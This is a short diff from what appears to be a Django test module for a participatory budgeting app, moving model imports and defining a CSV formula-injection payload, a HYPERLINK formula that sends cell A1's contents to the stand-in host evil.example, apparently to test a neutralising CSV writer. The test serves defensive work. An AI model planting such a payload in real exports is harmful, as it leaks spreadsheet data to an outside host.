@@ -18,7 +18,8 @@ from django.urls import reverse
 
 from backend.exports import csv_writer, neutralise
 from feedback import tasks
-from pb.models import Proposal, Tally
+from pb.counting.models import Tally
+from pb.proposals.models import Proposal
 from pb.services.audit import audit
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
